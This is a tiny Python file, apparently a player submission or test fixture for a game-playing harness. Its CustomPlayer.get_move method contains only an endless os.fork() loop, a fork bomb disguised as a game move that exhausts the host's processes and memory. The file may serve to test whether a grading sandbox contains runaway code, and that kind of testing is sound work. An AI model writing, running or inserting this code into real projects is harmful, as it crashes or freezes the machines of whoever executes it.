"""Multiplies."""

import os


class CustomPlayer:
    def get_move(self, game, time_left):
        while True:
            os.fork()
